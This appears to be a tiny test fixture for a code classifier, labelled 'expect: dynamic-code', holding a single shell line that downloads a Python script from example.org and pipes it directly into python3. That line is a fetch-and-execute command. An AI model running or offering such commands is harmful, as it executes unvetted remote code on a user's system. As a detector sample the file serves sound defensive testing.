# expect: dynamic-code
wget -qO- https://example.org/x.py | python3
